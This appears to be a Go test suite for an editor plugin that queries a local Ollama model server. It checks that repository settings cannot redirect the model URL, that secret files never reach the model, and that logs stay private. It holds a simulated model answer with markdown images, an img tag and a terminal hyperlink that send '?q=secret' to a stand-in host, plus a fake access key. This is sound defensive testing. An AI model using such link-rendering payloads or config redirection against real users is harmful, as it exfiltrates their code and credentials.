//go:build unix

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"log/slog"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"sopro/internal/config"
	"sopro/internal/eval/sim"
)

const elsewhere = "http://192.0.2.1:11434"

// leaky is what a model says that wants something to be fetched.
const leaky = "![a](http://192.0.2.1/?q=secret) <img src=\"http://192.0.2.1/\"> [b](http://192.0.2.1/) http://192.0.2.1/ \x1b]8;;http://192.0.2.1\x07"

// leakyOllama is a simulated Ollama whose models say that, and one that it would forward elsewhere.
func leakyOllama(t *testing.T) *sim.Server {
	server := sim.New(sim.Config{Version: "0.17.4", Models: []sim.Model{
		{Name: "qwen2.5-coder:1.5b-base", Family: "qwen2", Capabilities: []string{"completion", "insert"}, Answer: sim.Say("return \"" + elsewhere + "\"\n")},
		{Name: "llama3.2:3b", Template: "{{ .Messages }}", Answer: func(p sim.Prompt) []sim.Token {
			if strings.Contains(p.Messages[0].Content, "explain") {
				return sim.Tokens(leaky)
			}
			return sim.Tokens("```go\nfunc f() string { return \"" + elsewhere + "\" }\n```\n")
		}},
		{Name: "big:480b-cloud", Remote: true},
	}, Library: []sim.Pullable{{Model: sim.Model{Name: "starcoder2:3b", Family: "starcoder2"}}}})
	t.Cleanup(server.Close)
	return server
}

const hostileFile = "package f\n\n// f returns " + elsewhere + "\nfunc f() string {\n\t\n}\n"

// TestProtectedSettings: docs/security.md row 4, from each place that a repository can write to: no effect, and one warning with the path.
func TestProtectedSettings(t *testing.T) {
	type object = map[string]any
	type places struct{ file, initialize, asked, changed string } // JSON of the section, or TOML; "" for nothing
	for name, c := range map[string]struct {
		places
		warning string
	}{
		"initializationOptions": {places{initialize: `{"ollama": {"url": "EVIL"}}`}, "client: ollama.url: ignored"},
		"in an object":          {places{initialize: `{"sopro": {"ollama": {"url": "EVIL"}}}`}, "client: ollama.url: ignored"},
		"dotted":                {places{initialize: `{"ollama.url": "EVIL"}`}, "client: ollama.url: ignored"},
		"in capitals":           {places{initialize: `{"OLLAMA": {"URL": "EVIL"}}`}, "client: OLLAMA.URL: ignored"},
		"configuration":         {places{asked: `{"ollama": {"url": "EVIL"}}`}, "client: ollama.url: ignored"},
		"configuration, dotted": {places{asked: `{"ollama.url": "EVIL"}`}, "client: ollama.url: ignored"},
		"change":                {places{changed: `{"sopro": {"ollama": {"url": "EVIL"}}}`}, "client: ollama.url: ignored"},
		"change, dotted":        {places{changed: `{"ollama.url": "EVIL"}`}, "client: ollama.url: ignored"},
		"everywhere": {places{initialize: `{"ollama": {"url": "EVIL"}}`, asked: `{"ollama": {"url": "EVIL"}}`, changed: `{"ollama": {"url": "EVIL"}}`},
			"client: ollama.url: ignored"},
		"file":              {places{file: "[ollama]\nurl = \"EVIL\""}, ".sopro.toml: ollama.url: ignored"},
		"file, dotted":      {places{file: "ollama.url = \"EVIL\""}, ".sopro.toml: ollama.url: ignored"},
		"file, in capitals": {places{file: "[Ollama]\nURL = \"EVIL\""}, ".sopro.toml: Ollama.URL: ignored"},
	} {
		t.Run(name, func(t *testing.T) {
			mine, evil := leakyOllama(t), leakyOllama(t)
			folder := t.TempDir()
			section := func(text string) (settings object) {
				if text = strings.ReplaceAll(text, "EVIL", evil.URL()); text != "" {
					if err := json.Unmarshal([]byte(text), &settings); err != nil {
						t.Fatal(err)
					}
				}
				return settings
			}
			if c.file != "" {
				write(t, filepath.Join(folder, ".sopro.toml"), strings.ReplaceAll(c.file, "EVIL", evil.URL()))
			}
			p := start(t, mine.URL())
			p.greetWith(folder, section(c.initialize), section(c.asked))
			if c.changed != "" {
				p.Notify("workspace/didChangeConfiguration", object{"settings": section(c.changed)})
			}
			warnings := func() (about []string) {
				for _, raw := range p.Received("window/showMessage") {
					if bytes.Contains(bytes.ToLower(raw), []byte("ollama.url")) {
						about = append(about, string(raw))
					}
				}
				return about
			}
			p.Until("a warning", func() bool { return len(warnings()) > 0 })
			uri := "file://" + folder + "/f.go"
			p.open(uri, "go", hostileFile)
			p.Until("the models", func() bool { return p.status().Models.Completion != "" })
			if got := p.inline(t, uri, 4, 1); !strings.Contains(got, "return") {
				t.Errorf("completed with %q", got)
			}
			p.quit()
			if asked := evil.Requests(); len(asked) > 0 {
				t.Errorf("the other server was asked %s %s", asked[0].Method, asked[0].Path)
			}
			if w := warnings(); len(w) != 1 || !strings.Contains(w[0], c.warning) {
				t.Errorf("warned %q, want one with %q", w, c.warning)
			}
		})
	}
}

// TestWhatIsSent looks at every byte that a session sends to the model server. docs/security.md row 8: nothing of a file of secrets, open in
// the editor, beside the code or behind a link. Row 21: our own system message first in every chat, and infilling past the model's
// template.
func TestWhatIsSent(t *testing.T) {
	const secret = "AKIAQ3EGRVXJ5WZ7HN2P"
	server := leakyOllama(t)
	folder := t.TempDir()
	for _, name := range []string{".env", "id_rsa", ".aws/credentials", "terraform.tfstate", "keys/server.PEM"} {
		write(t, filepath.Join(folder, name), "key := \""+secret+"\"\nkey := \""+secret+"\"\n")
	}
	if err := os.Symlink(".env", filepath.Join(folder, "notes.go")); err != nil {
		t.Fatal(err)
	}
	// What the code uses is declared in an ordinary file with a key in it, and in one that is secret.
	write(t, filepath.Join(folder, ".git", "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(folder, "g.go"), "package f\n\nfunc settle(customer string, key string /* \""+secret+"\" */) {}\n")
	write(t, filepath.Join(folder, "private.go"), "package f\n\nfunc settleSecretly(key string) {}\n")
	p := start(t, server.URL(), "--set", "privacy.ignore=private.go")
	p.greet(folder)
	code := "file://" + folder + "/f.go"
	p.open(code, "go", strings.Replace(hostileFile, "{\n\t", "{\n\tsettle(); settleSecretly() // settle() settleSecretly()\n\t", 1))
	p.Until("the models", func() bool { s := p.status(); return s.Models.Completion != "" && s.Models.Chat != "" })
	p.Until("the index", func() bool { return p.status().Index.Done })
	for _, name := range []string{".env", "id_rsa", ".aws/credentials", "terraform.tfstate", "keys/server.PEM", "notes.go"} {
		uri := "file://" + folder + "/" + name
		p.open(uri, "go", "key := \""+secret+"\"\n\n")
		if got := p.inline(t, uri, 1, 0); got != "" {
			t.Errorf("%s: completed with %q", name, got)
		}
		if s := p.status(); s.Kind != "warning" || !strings.Contains(s.Message, "secret") {
			t.Errorf("%s: status %+v", name, s)
		}
		for _, ask := range []string{"sopro.explain", "sopro.generate"} {
			if err := p.do(ask, map[string]any{"uri": uri, "range": lines(0, 1), "position": map[string]any{"line": 1, "character": 0}}).Wait(nil); err == nil {
				t.Errorf("%s of %s is answered", ask, name)
			}
		}
		p.do("sopro.warm", map[string]any{"uri": uri}).Wait(nil)
	}
	p.inline(t, code, 5, 1)
	for _, ask := range []string{"sopro.explain", "sopro.generate"} {
		if err := p.do(ask, map[string]any{"uri": code, "range": lines(3, 6), "position": map[string]any{"line": 2, "character": 3}}).Wait(nil); err != nil {
			t.Errorf("%s: %v", ask, err)
		}
	}
	p.quit()
	chats, fills := 0, 0
	for _, r := range server.Requests() {
		if bytes.Contains(r.Body, []byte(secret)) {
			t.Errorf("%s %s has the secret in it", r.Method, r.Path)
		}
		if bytes.Contains(r.Body, []byte("func settleSecretly")) {
			t.Errorf("%s %s has what privacy.ignore shuts out", r.Method, r.Path)
		}
		var body struct {
			Messages         []struct{ Role, Content string }
			Raw              bool
			Prompt           string
			System, Template *string
		}
		if r.Path != "/api/chat" && r.Path != "/api/generate" || json.Unmarshal(r.Body, &body) != nil {
			continue
		}
		switch {
		case body.System != nil || body.Template != nil:
			t.Errorf("%s sets a system message or a template beside the prompt", r.Path)
		case len(body.Messages) > 0:
			chats++
			if !strings.Contains(body.Messages[1].Content, "Declarations in g.go, without bodies:\n```go\nfunc settle(customer string, key string /* \"[secret]\" */) {}\n```\n") {
				t.Errorf("a chat is not told what settle is: %s", body.Messages[1].Content)
			}
			if body.Messages[0].Role != "system" || !strings.HasPrefix(body.Messages[0].Content, "You ") {
				t.Errorf("a chat begins with %.100q", body.Messages[0])
			}
		case strings.Contains(body.Prompt, "<|fim_"):
			fills++
			if !body.Raw {
				t.Error("infilling goes through the model's template")
			}
		}
	}
	if chats < 2 || fills < 1 {
		t.Errorf("saw %d chats and %d infillings", chats, fills)
	}
}

// TestNothingIsWrittenDown: docs/security.md row 17. A session at the most talkative level, with everything in it that goes wrong, leaves
// files that only their owner can read, and no text of a document, a prompt or an answer in them.
func TestNothingIsWrittenDown(t *testing.T) {
	const read, said = "MARKERREAD", "MARKERSAID"
	if _, err := built(); err != nil {
		t.Fatal(err)
	}
	temp, folder := t.TempDir(), t.TempDir()
	t.Setenv("TMPDIR", temp)
	before := syscall.Umask(0) // no help from outside
	t.Cleanup(func() { syscall.Umask(before) })
	server := sim.New(sim.Config{Version: "0.17.4", Models: []sim.Model{
		{Name: "qwen2.5-coder:1.5b-base", Capabilities: []string{"completion", "insert"}, Answer: sim.Say("return \"" + said + "\"\n")},
		{Name: "llama3.2:3b", Template: "{{ .Messages }}", Answer: sim.Say("The code says " + said + ".\n```go\nvar x = \"" + said + "\"\n```\n")},
	}})
	defer server.Close()
	p := start(t, server.URL(), "--set", "log.level=debug")
	p.greet(folder)
	uri := "file://" + folder + "/f.go"
	p.open(uri, "go", "package f\n\n// f returns "+read+"\nfunc f() string {\n\t\n}\n")
	p.Until("the models", func() bool { s := p.status(); return s.Models.Completion != "" && s.Models.Chat != "" })
	explain := map[string]any{"uri": uri, "range": lines(2, 5), "question": read, "token": "t", "show": true}
	generate := map[string]any{"uri": uri, "position": map[string]any{"line": 2, "character": 3}, "apply": true}
	ask := func() {
		p.inline(t, uri, 4, 1)
		p.inline(t, uri, 4, 0)
		p.do("sopro.explain", explain).Wait(nil)
		p.do("sopro.generate", generate).Wait(nil)
		p.do("sopro.warm", map[string]any{"uri": uri}).Wait(nil)
	}
	ask()
	for _, f := range []sim.Fault{
		{Kind: sim.Failed, Text: "cannot evaluate: " + read}, {Kind: sim.Plain, Text: read}, {Kind: sim.ErrorLine, Text: read, After: 1},
		{Kind: sim.Cut, After: 2}, {Kind: sim.Garbage}, {Kind: sim.Missing},
	} {
		f.Times = 8
		server.Fail(f)
		ask()
		server.Heal()
	}
	for _, broken := range []map[string]any{
		{"textDocument": map[string]any{"uri": uri, "languageId": "go", "version": read, "text": read}},
		{"textDocument": map[string]any{"uri": uri, "version": 0}, "contentChanges": []any{map[string]any{"text": read}}},
		{"textDocument": read}, {"settings": map[string]any{"sopro": read}}, {"settings": map[string]any{"sopro": map[string]any{"enabled": read}}},
	} {
		for _, method := range []string{"textDocument/didOpen", "textDocument/didChange", "workspace/didChangeConfiguration", "sopro/unknown"} {
			p.Notify(method, broken)
		}
	}
	p.Ask("textDocument/inlineCompletion", map[string]any{"textDocument": read, "position": read}).Wait(nil)
	p.do("sopro.explain", map[string]any{"uri": []string{read}}).Wait(nil)
	fmt.Fprintf(p.in, "Content-Length: %d\r\n\r\n{%q", len(read)+3, read)
	p.status()

	shown, _ := filepath.Glob(temp + "/sopro-*/*.md")
	if len(shown) == 0 {
		t.Error("no explanation was shown")
	}
	expectPrivate(t, temp)
	expectPrivate(t, p.home)
	if _, errs := p.quit(); errs != "" {
		t.Errorf("standard error %q", errs)
	}
	expectPrivate(t, p.home)
	if left := slices.Sorted(maps.Keys(tree(t, temp))); len(left) > 0 {
		t.Errorf("left behind: %q", left)
	}
	if logged, err := os.ReadFile(filepath.Join(p.home, "sopro", "sopro.log")); err != nil || len(logged) == 0 {
		t.Fatalf("nothing was logged: %v", err)
	}
	for path := range tree(t, p.home) {
		kept, _ := os.ReadFile(filepath.Join(p.home, path)) // a folder has no lines
		for line := range strings.Lines(string(kept)) {
			if strings.Contains(line, read) || strings.Contains(line, said) {
				t.Errorf("in %s: %s", path, line)
			}
		}
	}
}

// expectPrivate wants every folder below root to be 0700 and every file 0600.
func expectPrivate(t *testing.T, root string) {
	t.Helper()
	err := filepath.WalkDir(root, func(path string, e fs.DirEntry, err error) error {
		if err != nil || path == root {
			return err
		}
		info, err := e.Info()
		if err != nil {
			return err
		}
		want := fs.FileMode(0o600)
		if e.IsDir() {
			want = 0o700
		}
		if got := info.Mode().Perm(); got != want {
			t.Errorf("%s has mode %o, want %o", path, got, want)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestOpenLog: the log of an earlier time that others could read is closed to them.
func TestOpenLog(t *testing.T) {
	before := syscall.Umask(0)
	t.Cleanup(func() { syscall.Umask(before) })
	folder := t.TempDir()
	old := filepath.Join(folder, "old.log")
	write(t, old, "before\n")
	if err := os.Chmod(old, 0o666); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{old, filepath.Join(folder, "new", "new.log")} {
		log, done := openLog(config.Log{Level: "debug", File: path})
		log.Debug("said")
		done()
		if text, err := os.ReadFile(path); err != nil || !strings.Contains(string(text), "said") {
			t.Errorf("%s: %q, %v", path, text, err)
		}
	}
	expectPrivate(t, folder)
	if log, done := openLog(config.Log{File: filepath.Join(old, "below a file")}); log.Enabled(t.Context(), slog.LevelError) {
		t.Error("logs nowhere")
	} else {
		done()
	}
}
